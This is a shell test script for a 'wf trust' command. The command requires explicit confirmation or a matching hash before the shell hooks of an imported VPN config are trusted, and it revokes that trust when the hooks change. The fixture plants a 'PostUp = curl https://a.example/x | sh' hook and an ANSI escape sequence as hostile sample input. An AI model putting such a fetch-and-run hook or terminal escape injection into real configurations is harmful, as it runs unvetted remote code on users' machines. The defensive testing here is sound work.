#!/bin/sh
# SPDX-License-Identifier: GPL-2.0-or-later
# wf trust: what is shown, who may answer, and what withdraws it.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/../lib/tap.sh"
. "$here/book.sh"

fresh
conf | sed 's|^DNS.*|PostUp = curl https://a.example/x \| sh\nPreDown = printf "\\033[31m"|' >"$T_TMP/m.conf"
wf import "$T_TMP/m.conf" --sponsor Mullvad >/dev/null
trusted() {
	json .trusted trust mullvad 2>/dev/null || json .hooks_trusted show mullvad
}
state() {
	json .hooks_trusted show mullvad
}
hash=$(json .hooks_hash show mullvad)
like "$hash" '^SHA256:[A-Za-z0-9+/]{43}$' 'the hash, as people know it'
is "$(state)" false 'nothing is trusted by itself'

is_rc 2 'no terminal: no answer' wf trust mullvad
like "$(cat "$T_TMP/stdout")" 'PostUp +curl https://a.example/x \| sh' 'but it is shown'
like "$(cat "$T_TMP/stderr")" "hash '$hash'" 'and how to answer'
is "$(state)" false 'still not'
is_rc 0 '--yes' wf trust mullvad --yes
is "$(state)" false 'gives no trust'
is_rc 6 'another hash' wf trust mullvad --hash SHA256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
is "$(state)" false 'nor does that'
out=$(on_terminal '\n' trust mullvad)
like "$out" 'y/N' 'asked, no is the safe answer'
is "$(state)" false 'an empty line is no'
on_terminal 'y\n' trust mullvad >/dev/null
is "$(state)" true 'yes is yes'
is_rc 0 'revoked' wf trust mullvad --revoke
is "$(state)" false 'no more'
is_rc 0 'dry run' wf trust mullvad --hash "$hash" -n
is "$(state)" false 'a dry run trusts nothing'
is_rc 0 'the hash answers' wf trust mullvad --hash "$hash"
is "$(state)" true 'trusted'
like "$(wf show mullvad)" 'shell command +trusted' 'and shown so'

# Any change withdraws it.
wf import "$T_TMP/m.conf" --sponsor Mullvad >/dev/null
is "$(state)" true 'the same file again changes nothing'
sed -i 's|a.example/x|a.example/y|' "$T_TMP/m.conf"
wf import "$T_TMP/m.conf" --sponsor Mullvad >"$T_TMP/out"
is "$(state)" false 'one letter withdraws it'
like "$(cat "$T_TMP/out")" 'trust in them is withdrawn' 'and is told'
isnt "$(json .hooks_hash show mullvad)" "$hash" 'another hash'
is_rc 6 'the old hash is refused' wf trust mullvad --hash "$hash"
wf trust mullvad --hash "$(json .hooks_hash show mullvad)" -q >/dev/null
is "$(state)" true 'trusted anew'
sqlite3 "$WF_DB" "UPDATE command_pair SET up_commands = '[\"true\"]' WHERE up_commands IS NOT NULL"
is "$(state)" false 'a row that is changed by hand as well'

ok 'what steers a terminal is spelled out' sh -c \
	'! "$0" trust mullvad --yes | LC_ALL=C grep -q "$(printf "\033")"' "$WF"
is_rc 2 '--revoke and --hash' wf trust mullvad --revoke --hash "$hash"
conf "$PRIVATE2" >"$T_TMP/n.conf"
wf import "$T_TMP/n.conf" --sponsor None >/dev/null
is_rc 0 'nothing to trust' wf trust none
like "$(cat "$T_TMP/stderr")" 'no hook needs trust' 'is said'
is "$(wf trust none --json | jq -c '[.schema, .hooks, .hash, .trusted]')" '["wf.trust/1",[],null,false]' 'JSON'

t_done
